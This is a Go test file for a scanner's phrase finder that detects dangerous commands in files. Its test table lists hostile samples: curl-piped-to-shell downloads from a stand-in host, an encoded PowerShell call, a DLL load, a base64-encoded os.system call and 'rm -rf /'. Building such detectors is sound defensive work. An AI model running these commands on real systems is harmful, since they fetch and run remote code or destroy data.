package phrase_test

import (
	"context"
	"strings"
	"testing"

	"modelwall/scan/internal/phrase"
	"modelwall/scan/scantest"
)

func TestMatch(t *testing.T) {
	f := phrase.NewFinder()
	for text, want := range map[string]bool{
		"os.execute('curl https://x.example/p.sh | sh')":                  true,
		"base::system('curl https://x.example/p.sh # harmless | sh')":     true,
		"bash -c curl http://x.example/p.sh":                              true,
		"notes=cmd.exe /c curl https://x.example && powershell -enc AAAA": true,
		"python -c \"import os; os.system('curl https://x.example')\"":    true,
		"loadlibrary C:\\temp\\evil.dll":                                  true,
		"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=":                        true, // __import__('os').system('id')
		"rm -rf /":                           true,
		"label=execute_mode_fast":            false,
		"feature_systematic_score":           false,
		"system_health execution_time_ms":    false,
		"https://example.com/models/resnet":  false,
		"description: parse values for eval": false,
		"X19pbXBvcnRfXygnb3Mn":               false,
		"the operating system (linux)":       false,
	} {
		if got := f.Match(text); (got != "") != want {
			t.Errorf("%q: %q, want match %v", text, got, want)
		}
	}
}

// TestSearch: a command is found wherever it lies against the pieces in which
// a file is read.
func TestSearch(t *testing.T) {
	const command = "os.execute('id')"
	f := phrase.NewFinder()
	for _, fill := range []string{"\x00", "x "} {
		for _, before := range []int{0, 100, 4<<10 - 6, 64<<10 - 6, 64 << 10, 200_000} {
			data := strings.Repeat(fill, before)[:before] + command + "\x00rest"
			var hits []phrase.Hit
			err := f.Search(context.Background(), scantest.Bytes("x", []byte(data)), 0, int64(len(data)), func(h phrase.Hit) bool {
				hits = append(hits, h)
				return true
			})
			if err != nil || len(hits) == 0 || !strings.HasPrefix(hits[0].Text, "os.execute(") {
				t.Errorf("fill %q, %d before: %v, %v", fill, before, hits, err)
				continue
			}
			if h := hits[0]; data[h.Off:h.Off+int64(len(h.Run))] != h.Run {
				t.Errorf("fill %q, %d before: the run is not at %d", fill, before, h.Off)
			}
		}
	}
}
